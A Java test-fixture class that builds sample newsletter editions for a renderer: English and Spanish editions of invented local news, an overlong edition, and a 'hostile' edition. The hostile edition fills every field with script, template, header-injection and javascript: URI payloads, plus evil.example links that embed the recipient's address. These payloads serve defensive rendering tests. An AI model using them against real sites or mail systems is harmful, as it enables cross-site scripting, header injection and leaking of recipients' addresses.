package org.presstime.render;

import java.net.URI;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.stream.IntStream;
import org.presstime.article.Article.Link;
import org.presstime.edition.Edition;
import org.presstime.edition.EditionContent;
import org.presstime.edition.EditionContent.Section;
import org.presstime.edition.EditionState;
import org.presstime.feed.Entry.Picture;
import org.presstime.newsletter.Newsletter;
import org.presstime.newsletter.Newsletters4Tests;
import org.presstime.newsletter.Segment;
import org.presstime.settings.Settings;
import org.presstime.story.Claim;
import org.presstime.story.Claim.Excerpt;
import org.presstime.story.Source;
import org.presstime.story.Story;
import org.presstime.story.Story.Body;
import org.presstime.story.Story.Material;
import org.presstime.story.Story.Placing;
import org.presstime.story.Story.Provenance;

/** Editions to render: an ordinary one in two languages, one written by an enemy, one far too long. */
public final class SampleEdition {

    /** Where the samples are published. */
    public static final Settings.Site SITE =
            new Settings.Site(URI.create("https://news.example.org"), "Example News", "1 Harbour Street, 28001 Madrid");

    /** "The Daily", in English. */
    public static final Newsletter DAILY = Newsletters4Tests.daily("World=https://courier.example/feed.xml");

    private static final Instant DAWN = Instant.parse("2026-11-24T04:12:00Z");

    private SampleEdition() {}

    /** The same newsletter in another language. */
    public static Newsletter daily(Locale language, String name) {
        return new Newsletter(
                DAILY.id(),
                name,
                DAILY.from(),
                DAILY.replyTo(),
                language,
                DAILY.schedule(),
                DAILY.stories(),
                DAILY.feeds(),
                DAILY.template(),
                Newsletter.Review.NONE,
                Segment.EVERYBODY);
    }

    /** Three sections, six stories. */
    public static Edition english() {
        return edition(new EditionContent(
                "Old harbour bridge closes until May for repairs",
                "Night trains return to the coast line · Glacier survey finds a second lake",
                List.of(
                        new Section("World", List.of(bridge(), trains())),
                        new Section("Science", List.of(glacier(), starlings())),
                        new Section("Sport", List.of(rowing(), chess())))));
    }

    /** Two sections, three stories, in Spanish. */
    public static Edition spanish() {
        return edition(new EditionContent(
                "El viejo puente del puerto cierra hasta mayo",
                "Vuelven los trenes nocturnos a la línea de la costa · Un segundo lago bajo el glaciar",
                List.of(
                        new Section("Mundo", List.of(puente(), trenes())),
                        new Section("Ciencia", List.of(glaciar())))));
    }

    /** Markup, template language and scripts wherever a stranger can write. */
    public static Edition hostile() {
        String evil = "</td></tr><script>alert(1)</script>\"'{{ 7 * 7 }}{% include 'x' %}\r\nBcc: <b>&amp; "
                + Slot.ADDRESS.marker() + Slot.UNSUBSCRIBE_URL.marker() + " \u202Egnp";
        URI script = URI.create("javascript:alert(1)");
        Source source = new Source(1, evil, Optional.of(evil), evil, script, DAWN);
        Source other = new Source(
                2,
                evil,
                Optional.empty(),
                evil,
                URI.create("https://evil.example/?a=" + Slot.ADDRESS.marker() + "&b=%22%3E"),
                DAWN);
        Story story = new Story(
                "article-1",
                new Placing(evil, Locale.ENGLISH, true),
                "Headline " + evil,
                new Body(
                        List.of(claim("Lead " + evil, 1), claim("Other " + evil, 2)),
                        List.of(
                                claim("Happened " + evil, 1),
                                new Claim("Editor " + evil, List.of(), Optional.of(evil))),
                        List.of()),
                new Material(
                        List.of(source, other),
                        List.of(new Link(evil, script), new Link(evil, URI.create("data:text/html,x"))),
                        Optional.of(new Picture(
                                URI.create("https://evil.example/p.png?r=" + Slot.ADDRESS.marker()), evil, evil))),
                new Provenance(Optional.of(evil), Optional.of(evil)));
        return edition(
                new EditionContent("Subject " + evil, "Preheader " + evil, List.of(new Section(evil, List.of(story)))));
    }

    private static Claim claim(String text, long article) {
        return new Claim(text, List.of(new Excerpt(article, 0, 9)), Optional.empty());
    }

    /** Sixty stories of fifteen sentences in three sections. */
    public static Edition tooLong() {
        List<Section> sections = new ArrayList<>();
        for (int section = 0; section < 3; section++) {
            int first = section * 20 + 1;
            sections.add(new Section(
                    "Section " + section,
                    IntStream.range(first, first + 20)
                            .mapToObj(SampleEdition::longStory)
                            .toList()));
        }
        return edition(new EditionContent(
                "Long story 1", "Long story 2 · Long story 3 · Long story 4 · Long story 5", sections));
    }

    /** An edition of these sections. */
    public static Edition of(Section... sections) {
        return edition(new EditionContent("A subject", "A preheader", List.of(sections)));
    }

    private static Story longStory(int id) {
        String sentence = "The committee of the harbour heard again what it had heard before, and took a note of it.";
        return new StoryOf("", "Long story " + id, "Harbour Courier", id)
                .lead(sentence)
                .happened(IntStream.range(0, 14).mapToObj(i -> sentence).toArray(String[]::new))
                .build();
    }

    private static Edition edition(EditionContent content) {
        return new Edition(
                7,
                Edition.Key.of("daily", LocalDate.parse("2026-11-24")),
                OptionalInt.of(128),
                EditionState.SENDING,
                "",
                content,
                Optional.of(DAWN.plusSeconds(6000)),
                Optional.empty());
    }

    private static Story bridge() {
        return new StoryOf("World", "Old harbour bridge closes until May for repairs", "Harbour Courier", 1)
                .by("Ana Prado")
                .lead(
                        "The iron bridge over the old harbour closes to all traffic on Monday and is to open again in May.")
                .happened(
                        "Inspectors found cracks in eleven of its forty hangers during the autumn survey, the port"
                                + " authority said.",
                        "Buses will go round by the northern quay, which adds about a quarter of an hour to the way"
                                + " into town.",
                        "A ferry for walkers and bicycles starts on the same day and costs nothing until the spring.")
                .alsoFrom(101, "Northern Post", "Shopkeepers on the south bank expect to lose a third of their trade.")
                .matters("It is the third closure in six years, and a new bridge has been promised since 2019.")
                .link("The survey of the bridge, in full", "https://port.example/survey-2026.pdf")
                .link("Timetable of the free ferry", "https://port.example/ferry")
                .picture(
                        "https://pictures.example/1.jpg",
                        "The iron bridge at low tide, seen from the southern quay",
                        "Ana Prado")
                .build();
    }

    private static Story trains() {
        return new StoryOf("World", "Night trains return to the coast line after eleven years", "Rail Gazette", 2)
                .lead("From the first of December a sleeping train runs every night between the capital and the coast.")
                .happened(
                        "It leaves at ten in the evening, carries bicycles, and arrives in time for breakfast.",
                        "Half of the berths for the first week were sold within an hour.")
                .build();
    }

    private static Story glacier() {
        return new StoryOf("Science", "Glacier survey finds a second lake under the ice", "Field Notes", 3)
                .by("Ingrid Solberg")
                .lead("Radar flights over the northern glacier have found a lake the size of a small town beneath it.")
                .happened(
                        "The water lies under four hundred metres of ice and seems to be joined to the lake found in"
                                + " 2021.",
                        "The team will drill next summer, with tools that are boiled first so that nothing living is"
                                + " carried down.")
                .link("How radar sees through ice", "https://fieldnotes.example/radar")
                .picture("https://pictures.example/3.jpg", "A small aircraft above a white plain", "")
                .build();
    }

    private static Story starlings() {
        return new StoryOf("Science", "Starlings follow seven neighbours, not the flock", "Field Notes", 4)
                .lead("Each bird in a flock keeps an eye on its seven nearest neighbours, however far away they are.")
                .build();
    }

    private static Story rowing() {
        return new StoryOf("Sport", "Lighthouse crew wins the winter regatta by a length", "Harbour Courier", 5)
                .lead(
                        "The women’s eight of the Lighthouse club won the winter regatta on Sunday, against wind and tide.")
                .happened("It was their first win since the club’s boathouse burned down two years ago.")
                .build();
    }

    private static Story chess() {
        return new StoryOf(
                        "Sport",
                        "A fourteen-year-old draws with the champion in the open championship of the islands",
                        "Chess Weekly & Notes",
                        6)
                .lead("The game lasted seven hours.", "Both players then shared a pot of tea.")
                .link(
                        "https://chess.example/games/2026/11/22/round-nine-board-one-annotated-in-full-with-variations",
                        "https://chess.example/games/2026/11/22/round-nine-board-one-annotated-in-full-with-variations?moves=all&lang=en")
                .build();
    }

    private static Story puente() {
        return new StoryOf("Mundo", "El viejo puente del puerto cierra hasta mayo", "Correo del Puerto", 1)
                .in(Locale.forLanguageTag("es"))
                .by("Ana Prado")
                .lead(
                        "El puente de hierro del viejo puerto se cierra el lunes a todo el tráfico y no reabrirá hasta mayo.")
                .happened("La inspección de otoño encontró grietas en once de sus cuarenta tirantes.")
                .link("El informe completo", "https://port.example/informe-2026.pdf")
                .build();
    }

    private static Story trenes() {
        return new StoryOf("Mundo", "Vuelven los trenes nocturnos a la línea de la costa", "Gaceta del Tren", 2)
                .in(Locale.forLanguageTag("es"))
                .lead("Desde el primero de diciembre, un tren con camas une cada noche la capital y la costa.")
                .build();
    }

    private static Story glaciar() {
        return new StoryOf("Ciencia", "Under the glacier, a second lake", "Field Notes", 3)
                .lead("Radar flights have found a lake the size of a small town beneath the northern glacier.")
                .build();
    }
}
